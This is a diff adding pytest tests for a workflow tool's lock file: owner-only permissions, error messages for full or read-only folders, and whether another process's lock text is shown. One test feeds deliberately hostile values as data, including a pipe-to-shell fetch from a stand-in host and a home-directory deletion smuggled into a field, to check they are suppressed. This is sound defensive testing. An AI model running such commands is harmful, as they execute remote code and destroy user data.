@@ -79,6 +79,43 @@ def test_a_lock_goes_that_names_these_results_or_none_but_shared(text, goes):
     assert (LOCKS / "0.output.lock").exists() != goes
 
 
+def test_the_lock_holds_a_process_and_a_host_for_its_owner_alone(monkeypatch):
+    monkeypatch.setattr("sys.argv", ["snakemake", "--storage-s3-secret-key", "T0PSECRET"])
+    file = Path(".snakemake/maskmake-mine.lock")
+    file.write_text("")
+    file.chmod(0o666)  # as an earlier version made it
+    lock = at_work()
+    lock.acquire(dry_run=False)
+    assert json.loads(file.read_text()) == [os.getpid(), platform.node()]
+    assert file.stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        json.dumps(["1; curl http://evil.example/x | sh #", platform.node()]),
+        json.dumps([1, "vm; rm -r ~ #"]),
+        json.dumps([1, "\x1b[31mred"]),
+        json.dumps([True, platform.node()]),
+    ],
+)
+def test_a_text_of_someone_else_is_not_shown(text):
+    other = other_snakemake()
+    Path(".snakemake/maskmake-mine.lock").write_text(text)
+    try:
+        sentence = at_work_beside_another().describe_holder()
+        assert sentence.startswith("results/mine: locked by another Snakemake, or by one that was")
+        assert "evil" not in sentence and "rm" not in sentence and "\x1b" not in sentence
+    finally:
+        kill(other)
+
+
+def at_work_beside_another():
+    lock = at_work()
+    lock.acquire(dry_run=False)
+    return lock
+
+
 def test_two_processes_may_not_work_at_a_time():
     first, second = other_snakemake(), at_work()
     assert second.acquire(dry_run=False) is None
@@ -129,10 +166,21 @@ def test_another_error_of_the_disk_is_a_defect(monkeypatch):
         at_work().acquire(dry_run=False)
 
 
+def test_a_full_folder_for_temporary_files_is_named(monkeypatch, tmp_path):
+    def refuse(*_, **__):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setenv("TMPDIR", str(tmp_path))
+    monkeypatch.setattr("tempfile.TemporaryFile", refuse)
+    with pytest.raises(UserError, match=rf"^TMPDIR: {tmp_path}: No space left .* set the env"):
+        at_work().acquire(dry_run=False)
+
+
 def test_a_folder_that_may_not_be_written_to_is_named(monkeypatch):
     def refuse(*_, **__):
         raise OSError(errno.EROFS, "Read-only file system")
 
+    monkeypatch.setattr("maskmake.snakefile.results_lock._check_temporary_folder", lambda: None)
     monkeypatch.setattr("tempfile.TemporaryFile", refuse)
     with pytest.raises(UserError, match=r"^\.snakemake: Read-only file system; free space or fix"):
         at_work().acquire(dry_run=False)
